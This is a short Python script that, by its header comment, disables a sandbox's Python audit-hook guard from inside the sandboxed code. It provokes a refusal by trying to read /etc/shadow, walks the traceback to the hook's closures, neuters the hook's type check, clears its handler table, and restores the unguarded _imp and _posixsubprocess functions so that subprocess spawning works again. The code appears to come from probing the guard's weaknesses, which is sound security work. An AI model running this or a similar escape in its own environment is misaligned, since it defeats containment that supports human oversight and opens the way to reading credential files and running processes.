# Switch the sandbox's audit-hook guard off from inside the script (the "about fifteen lines" the guard's gaps name).
# Provoke one refusal, walk its traceback's frames to the hook's helpers, rewrite the closure cell
# the hook reads first (type_) so it returns at once, clear its event table, and undo its patches
# of _imp and _posixsubprocess.  Prepended to a probe: what still stops the probe is the OS.
def _bypass_guard():
    import sys
    try:
        open("/etc/shadow")
    except PermissionError as refusal:
        tb = refusal.__traceback__
    else:
        return "no guard"
    functions, seen = [], set()
    while tb is not None:
        functions += [v for v in tb.tb_frame.f_locals.values() if hasattr(v, "__closure__")]
        tb = tb.tb_next
    cells = {}
    while functions:
        function = functions.pop()
        if id(function) in seen or not getattr(function, "__closure__", None):
            continue
        seen.add(id(function))
        for name, cell in zip(function.__code__.co_freevars, function.__closure__):
            cells.setdefault(name, cell)
            if hasattr(cell.cell_contents, "__closure__"):
                functions.append(cell.cell_contents)
    cells["type_"].cell_contents = lambda value: None  # hook: "if type_(event) is not str_: return"
    if "handlers" in cells:
        cells["handlers"].cell_contents.clear()
    import _imp
    for name in ("create_dynamic", "create_builtin"):
        wrapper = getattr(_imp, name)
        original = dict(zip(wrapper.__code__.co_freevars, wrapper.__closure__ or ())).get(name)
        if original is not None:
            setattr(_imp, name, original.cell_contents)
    sys.modules.pop("_posixsubprocess", None)
    import _posixsubprocess  # a fresh copy, without the guard's refusing fork_exec
    return "bypassed"


print("BYPASS " + _bypass_guard(), flush=True)
